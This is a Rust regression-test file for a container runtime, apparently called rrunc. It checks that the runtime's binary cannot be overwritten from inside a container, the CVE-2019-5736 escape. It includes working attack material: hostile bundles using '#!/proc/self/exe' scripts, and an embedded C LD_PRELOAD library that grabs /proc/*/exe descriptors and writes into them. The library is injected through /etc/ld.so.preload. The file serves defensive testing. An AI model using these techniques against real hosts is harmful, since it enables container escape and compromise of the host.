//! Row 1: the runtime's own binary, which belongs to the same user, must not be overwritten from inside (CVE-2019-5736).
use super::payloads;
use crate::support::{Bundle, Lacks, Stage, find_program, runtime, skip, wait_for};
use serde_json::json;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

/// A copy of the runtime that belongs to the caller, and its bytes.
pub fn own_copy(stage: &Stage) -> (PathBuf, Vec<u8>) {
    let copy = stage.dir().join(runtime().file_name().expect("a name"));
    fs::copy(runtime(), &copy).expect("copy the runtime");
    let bytes = fs::read(&copy).expect("read the copy");
    (copy, bytes)
}

/// A writable root with the attacker in it and a script whose interpreter is whatever executes it.
pub fn hostile(stage: &Stage, name: &str) -> Bundle {
    let bundle = stage.bundle_named(name);
    let script = bundle.rootfs().join("self");
    fs::write(&script, "#!/proc/self/exe\n").expect("write");
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).expect("chmod");
    bundle.set("/root/readonly", json!(false));
    bundle
}

fn stop(bundle: &Bundle) {
    fs::write(bundle.rootfs().join("tmp/stop"), "").expect("write");
}

#[test]
fn row_1_control_the_attacker_can_overwrite_a_program_it_meets() {
    let stage = Stage::new();
    let victim = stage.dir().join("sleep");
    fs::copy(runtime_free_busybox(), &victim).expect("copy");
    let before = fs::read(&victim).expect("read");
    let own = std::env::current_exe().expect("our own path");
    let script = "\"$0\" 0.5 & shift 0; exec \"$@\"";
    let mut attacker = Command::new("unshare")
        .args(["--map-root-user", "--pid", "--fork", "--kill-child", "--mount-proc", "sh", "-c", script])
        .arg(&victim)
        .arg(&own)
        .args(payloads::arguments("overwrite_programs"))
        .stdout(Stdio::null())
        .spawn()
        .expect("unshare");
    wait_for("the victim to be overwritten", || (fs::read(&victim).expect("read") != before).then_some(()));
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(attacker.id().try_into().expect("a pid")),
        nix::sys::signal::Signal::SIGKILL,
    )
    .expect("kill");
    attacker.wait().expect("wait");
    stage.wait_no_processes();
}

fn runtime_free_busybox() -> PathBuf {
    crate::support::find_program("busybox").expect("busybox")
}

#[test]
fn row_1_exec_into_a_watching_container() {
    let stage = Stage::new();
    let (copy, before) = own_copy(&stage);
    let bundle = hostile(&stage, "bundle");
    payloads::run(&bundle, "overwrite_programs");
    let mut run = stage.call_program(&copy, &["run", "-d", "c"]).cwd(bundle.path()).spawn();
    run.wait_stdout("watching");
    run.wait().success();
    for _ in 0..20 {
        stage.call_program(&copy, &["exec", "c", "true"]).run().success();
        // The interpreter is the runtime, its stub, or nothing at all: how it ends is all the same.
        stage.call_program(&copy, &["exec", "c", "/self"]).run();
        stage.call_program(&copy, &["exec", "c", "/proc/self/exe"]).run();
        assert!(fs::read(&copy).expect("read") == before, "the runtime's binary was overwritten");
    }
    stop(&bundle);
    stage.wait_status("c", "stopped");
    assert!(fs::read(&copy).expect("read") == before, "the runtime's binary was overwritten");
    stage.remove("c");
}

/// Under podman rrunc is root of a user namespace already, and the container stays in it. Its control is that of the row.
#[test]
fn row_1_run_and_exec_by_root_of_a_user_namespace() {
    let stage = Stage::new();
    let (copy, before) = own_copy(&stage);
    let bundle = hostile(&stage, "bundle");
    payloads::run(&bundle, "overwrite_programs");
    bundle.unset("/linux/uidMappings").unset("/linux/gidMappings");
    bundle.set("/linux/namespaces", json!(["pid", "mount", "ipc", "uts"].map(|kind| json!({"type": kind}))));
    let script = "\"$0\" run -d c </dev/null >said 2>&1 || { cat said; exit 1; }
        until grep -q watching said; do sleep 0.05; done
        for i in 1 2 3 4 5 6 7 8 9 10; do
            \"$0\" exec c true || exit 1
            \"$0\" exec c /self; \"$0\" exec c /proc/self/exe
        done >/dev/null 2>&1
        touch rootfs/tmp/stop
        \"$0\" delete --force c";
    let unshare = ["--map-root-user", "--mount", "sh", "-c", script];
    let run = stage.call_program(Path::new("/usr/bin/unshare"), &unshare).arg(&copy).cwd(bundle.path()).run();
    assert!(fs::read(&copy).expect("read") == before, "the runtime's binary was overwritten");
    run.success();
}

#[test]
fn row_1_a_created_container_watched_from_inside() {
    let stage = Stage::new();
    let (copy, before) = own_copy(&stage);
    let bundle = hostile(&stage, "bundle");
    payloads::install(&bundle);
    bundle.args(&["sleep", "3600"]);
    stage.call_program(&copy, &["create", "c"]).cwd(bundle.path()).run().success();
    let arguments = payloads::arguments("overwrite_programs");
    let arguments: Vec<&str> =
        ["exec", "-d", "c", payloads::PATH].into_iter().chain(arguments.iter().map(String::as_str)).collect();
    let mut attacker = stage.call_program(&copy, &arguments).spawn();
    attacker.wait_stdout("watching");
    attacker.wait().success();
    stage.call_program(&copy, &["start", "c"]).run().success();
    // Now nobody runs the binary: it is no longer protected by being busy.
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert!(fs::read(&copy).expect("read") == before, "the runtime's binary was overwritten");
    stop(&bundle);
    stage.remove("c");
}

#[test]
fn row_1_the_entry_point_is_the_runtime_itself() {
    let stage = Stage::new();
    let (copy, before) = own_copy(&stage);
    // The watcher's pid namespace is joined by the second container, so that its init is seen from its first step.
    let watcher = hostile(&stage, "watcher");
    payloads::run(&watcher, "overwrite_programs");
    let mut run = stage.call_program(&copy, &["run", "-d", "watcher"]).cwd(watcher.path()).spawn();
    run.wait_stdout("watching");
    run.wait().success();
    let pid = stage.pid("watcher");
    let second = hostile(&stage, "second");
    second.edit(|config| {
        for namespace in config["linux"]["namespaces"].as_array_mut().expect("namespaces") {
            let kind = namespace["type"].as_str().expect("a type").to_owned();
            if ["pid", "user"].contains(&kind.as_str()) {
                namespace["path"] = json!(format!("/proc/{pid}/ns/{kind}"));
            }
        }
    });
    second.unset("/linux/uidMappings").unset("/linux/gidMappings");
    for entry in ["/self", "/proc/self/exe"] {
        for _ in 0..10 {
            second.args(&[entry]);
            stage.call_program(&copy, &["run", "second"]).cwd(second.path()).run();
            assert!(fs::read(&copy).expect("read") == before, "the runtime's binary was overwritten");
        }
    }
    second.args(&["true"]);
    stage.call_program(&copy, &["run", "second"]).cwd(second.path()).run().success();
    stop(&watcher);
    stage.wait_status("watcher", "stopped");
    assert!(fs::read(&copy).expect("read") == before, "the runtime's binary was overwritten");
    stage.remove("watcher");
}

/// A library whose constructor takes hold of the program files it sees, and leaves a shell behind that writes to them as
/// soon as nobody runs them any more.
const LIBRARY: &str = r#"
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void begin(void) {
    static const char script[] = "i=0; while [ $i -lt 300 ]; do i=$((i+1)); "
        "for n in 100 101 102; do { echo OVERWRITTEN >>/proc/self/fd/$n; } 2>/dev/null; done; sleep 0.01; done";
    char parent[64];
    snprintf(parent, sizeof parent, "/proc/%d/exe", getppid());
    const char *const paths[] = { "/proc/self/exe", "/proc/1/exe", parent };
    for (int i = 0; i < 3; i++) {
        int fd = open(paths[i], O_RDONLY);
        if (fd >= 0) dup2(fd, 100 + i);
    }
    puts("constructed");
    fflush(stdout);
    if (fork() == 0) {
        unsetenv("LD_PRELOAD");
        execl("/bin/sh", "sh", "-c", script, (char *)0);
        _exit(1);
    }
}
"#;

fn compile(stage: &Stage) -> Option<PathBuf> {
    let Some(compiler) = find_program("cc") else {
        skip(Lacks::Package("cc"));
        return None;
    };
    let (source, library) = (stage.dir().join("evil.c"), stage.dir().join("evil.so"));
    fs::write(&source, LIBRARY).expect("write");
    let status = Command::new(compiler).args(["-shared", "-fPIC", "-o"]).args([&library, &source]).status();
    assert!(status.expect("cc").success());
    Some(library)
}

/// Copies a dynamically linked program of the host and all it loads into the root.
fn install_dynamic(rootfs: &Path, program: &Path) -> PathBuf {
    let out = Command::new("ldd").arg(program).output().expect("ldd");
    let text = String::from_utf8(out.stdout).expect("text");
    let libraries = text.split_whitespace().filter(|word| word.starts_with('/'));
    for library in libraries.map(Path::new) {
        let place = rootfs.join(library.strip_prefix("/").expect("absolute"));
        fs::create_dir_all(place.parent().expect("a parent")).expect("mkdir");
        fs::copy(library, place).expect("copy a library");
    }
    let own = rootfs.join("bin/dynamic");
    fs::copy(program, &own).expect("copy the program");
    own
}

#[test]
fn row_1_a_library_constructor_during_exec() {
    let stage = Stage::new();
    let Some(library) = compile(&stage) else { return };
    let host = find_program("true").expect("true");
    let overwritten = |path: &Path| fs::read(path).expect("read").ends_with(b"OVERWRITTEN\n");
    // The control: on the host, with nobody in its way, it overwrites the very program that loaded it.
    let victim = stage.dir().join("victim");
    fs::copy(&host, &victim).expect("copy");
    let status = Command::new(&victim).env("LD_PRELOAD", &library).stdout(Stdio::null()).status();
    assert!(status.expect("the victim").success());
    wait_for("the victim to be overwritten", || overwritten(&victim).then_some(()));

    let (copy, before) = own_copy(&stage);
    let bundle = hostile(&stage, "bundle");
    let dynamic = install_dynamic(&bundle.rootfs(), &host);
    fs::copy(&library, bundle.rootfs().join("evil.so")).expect("copy");
    fs::write(bundle.rootfs().join("etc/ld.so.preload"), "/evil.so\n").expect("write");
    bundle.args(&["sleep", "3600"]);
    stage.call_program(&copy, &["run", "-d", "c"]).cwd(bundle.path()).run().success();
    let out = stage.call_program(&copy, &["exec", "c", "/bin/dynamic"]).run().success();
    assert_eq!(out.stdout, "constructed\n");
    // It works inside: the container's own program is overwritten.
    wait_for("the container's own program to be overwritten", || overwritten(&dynamic).then_some(()));
    for program in ["/bin/dynamic", "/self", "/proc/self/exe", "/proc/1/exe"] {
        for _ in 0..5 {
            stage.call_program(&copy, &["exec", "--env", "LD_PRELOAD=/evil.so", "c", program]).run();
        }
    }
    stage.remove("c");
    // As an entry point, too: pid 1 was the runtime itself a moment ago.
    for program in ["/bin/dynamic", "/self"] {
        bundle.args(&[program]).set("/process/env", json!(["PATH=/bin", "LD_PRELOAD=/evil.so"]));
        stage.call_program(&copy, &["run", "c"]).cwd(bundle.path()).run();
        bundle.args(&["sh", "-c", &format!("{program}; sleep 0.3")]);
        stage.call_program(&copy, &["run", "c"]).cwd(bundle.path()).run();
    }
    assert!(fs::read(&copy).expect("read") == before, "the runtime's binary was overwritten");
}
